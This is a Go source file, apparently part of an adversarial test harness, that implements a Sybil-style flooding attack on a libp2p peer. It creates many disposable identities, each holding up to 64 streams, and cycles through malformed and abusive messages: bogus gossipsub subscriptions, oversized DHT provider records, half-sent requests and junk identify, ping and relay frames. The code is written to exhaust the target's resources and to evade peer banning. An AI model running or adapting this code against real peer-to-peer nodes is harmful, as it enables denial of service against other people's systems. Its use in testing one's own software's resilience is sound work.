package hostile

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	kad "github.com/libp2p/go-libp2p-kad-dht/pb"
	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/connmgr"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	relay "github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/proto"
	"github.com/libp2p/go-libp2p/p2p/protocol/identify"
	"github.com/libp2p/go-libp2p/p2p/protocol/ping"
	"github.com/multiformats/go-multiaddr"
)

// Crowd is many peers of one place who do at once what each of them may not
// quite be dropped for, and come back as somebody else when they are.
type Crowd struct {
	Identities int // there at a time
	Rate       int // streams a second of all together
}

// holdMost is how many streams one identity keeps open: more, and it would wait
// for QUIC to allow another.
const holdMost = 64

// crowdReport is what a crowd has done.
type crowdReport struct{ identities, streams, refused, subscriptions, records atomic.Int64 }

// crowd attacks as Target.Crowd says.
func crowd(ctx context.Context, a *attacker) error {
	c := a.target.Crowd
	if c.Identities <= 0 || c.Rate <= 0 {
		return errors.New("a crowd of nobody")
	}
	a.begin()
	var all sync.WaitGroup
	pace := time.Duration(float64(time.Second) * float64(c.Identities) / float64(c.Rate))
	for i := range c.Identities {
		all.Go(func() {
			for ctx.Err() == nil {
				a.oneOfMany(ctx, i, pace)
				pause(ctx, 200*time.Millisecond)
			}
		})
	}
	all.Wait()
	return nil
}

// oneOfMany is one identity, until it is dropped.
func (a *attacker) oneOfMany(ctx context.Context, i int, pace time.Duration) {
	_, raw, err := ed25519.GenerateKey(nil)
	if err != nil {
		return
	}
	key, err := crypto.UnmarshalEd25519PrivateKey(raw)
	if err != nil {
		return
	}
	a.crowded.identities.Add(1)
	h, err := libp2p.New(libp2p.Identity(key), libp2p.DisableMetrics(), libp2p.DisableRelay(),
		libp2p.ResourceManager(&network.NullResourceManager{}), libp2p.ConnectionManager(connmgr.NullConnMgr{}),
		libp2p.NoListenAddrs)
	if err != nil {
		return
	}
	defer func() { _ = h.Close() }()
	info := peer.AddrInfo{ID: a.info.ID}
	for _, m := range a.info.Addrs { // half of them by QUIC
		if _, err := m.ValueForProtocol(multiaddr.P_UDP); (err == nil) == (i%2 == 0) {
			info.Addrs = append(info.Addrs, m)
		}
	}
	h.SetStreamHandler(a.gossip(), func(st network.Stream) { _, _ = io.Copy(io.Discard, st) })
	h.SetStreamHandler(a.lookup(), func(st network.Stream) { _, _ = st.Read(make([]byte, 1)); <-ctx.Done() })
	short, cancel := context.WithTimeout(ctx, 5*time.Second)
	err = h.Connect(short, info)
	cancel()
	if err != nil {
		return
	}
	tick := time.NewTicker(pace)
	defer tick.Stop()
	var held []network.Stream
	for n := i; ctx.Err() == nil && len(h.Network().ConnsToPeer(info.ID)) > 0; n++ {
		if st := a.rude(ctx, h, info.ID, n); st != nil {
			a.crowded.streams.Add(1)
			if held = append(held, st); len(held) > holdMost {
				_ = held[0].Reset()
				held = held[1:]
			}
		} else {
			a.crowded.refused.Add(1)
		}
		a.sent.Add(1)
		select {
		case <-tick.C:
		case <-ctx.Done():
		}
	}
}

// rude opens a stream of the n-th kind, says something, and leaves it as it is.
func (a *attacker) rude(ctx context.Context, h host.Host, to peer.ID, n int) network.Stream {
	ctx, cancel := context.WithTimeout(network.WithNoDial(ctx, "attack"), time.Second)
	defer cancel()
	st, err := h.Network().NewStream(ctx, to)
	if err != nil {
		return nil
	}
	_ = st.SetWriteDeadline(time.Now().Add(time.Second))
	say := func(id protocol.ID, b []byte) {
		hello := append([]byte{0x13}, "/multistream/1.0.0\n"...)
		hello = append(binary.AppendUvarint(hello, uint64(len(id)+1)), id...)
		_, _ = st.Write(append(append(hello, '\n'), b...))
	}
	switch n % 12 {
	case 0: // nobody knows what it is
		_, _ = st.Write([]byte{0x13})
	case 1, 2: // topics that nobody has heard of
		rpc := &pb.RPC{}
		for range 40 {
			rpc.Subscriptions = append(rpc.Subscriptions, &pb.RPC_SubOpts{Subscribe: new(true), Topicid: new(randomName())})
		}
		say(a.gossip(), framed(rpc))
		a.crowded.subscriptions.Add(40)
	case 3, 4: // a record with as many addresses as fit
		say(a.lookup(), framed(manyAddresses(h.ID())))
		a.crowded.records.Add(1)
	case 5: // a question, and nobody who reads the answer
		say(a.lookup(), framed(kad.NewMessage(kad.Message_FIND_NODE, []byte(h.ID()), 0)))
	case 6: // half of a request, for as long as that is waited for
		say(a.lookup(), []byte{0x80, 0x40, 1})
	case 7:
		say(identify.IDPush, []byte{0x80, 0x20, 1})
	case 8:
		say(identify.ID, nil)
	case 9:
		say(ping.ID, make([]byte, 7))
	case 10:
		say(relay.ProtoIDv2Hop, []byte{0x40, 8})
	case 11:
		say("/teahouse/member/1", []byte{1})
	}
	return st
}

// manyAddresses is a provider record for a key that nobody asks for.
func manyAddresses(id peer.ID) *kad.Message {
	key := append([]byte{0x12, 0x20}, make([]byte, 32)...)
	_, _ = rand.Read(key[2:])
	p := &kad.Message_Peer{Id: []byte(id)}
	for range 500 {
		var b [6]byte
		_, _ = rand.Read(b[:])
		at := netip.AddrPortFrom(netip.AddrFrom4([4]byte{45, b[0], b[1], b[2]}), binary.BigEndian.Uint16(b[3:])|1)
		if m, err := multiaddr.NewMultiaddr(fmt.Sprintf("/ip4/%s/tcp/%d", at.Addr(), at.Port())); err == nil {
			p.Addrs = append(p.Addrs, m.Bytes())
		}
	}
	return &kad.Message{Type: kad.Message_ADD_PROVIDER, Key: key, ProviderPeers: []*kad.Message_Peer{p}}
}
